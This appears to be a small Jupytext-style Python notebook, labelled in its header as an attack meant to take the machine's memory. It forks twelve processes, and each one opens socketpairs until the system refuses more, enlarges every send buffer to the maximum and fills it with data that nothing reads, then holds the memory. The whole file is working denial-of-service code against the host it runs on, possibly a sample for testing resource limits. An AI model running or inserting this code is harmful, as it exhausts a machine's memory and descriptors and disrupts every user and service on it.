# ---
# jupyter:
#   attack: {harm: "it would take this machine's memory"}
# ---

# %% [markdown]
# Fills the buffers of sockets that nobody reads, enlarged as far as they go, in a dozen processes.

# %%
import os
import socket
import time


def fill():
    kept = []
    while True:
        try:
            pair = socket.socketpair()
        except OSError:
            return kept
        for end in pair:
            end.setblocking(False)
            try:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            except OSError:
                pass
            try:
                while end.send(b"x" * 65536):
                    pass
            except OSError:
                pass
        kept.append(pair)


for _ in range(12):
    if os.fork() == 0:
        kept = fill()
        time.sleep(20)
        os._exit(0)
kept = fill()
time.sleep(20)
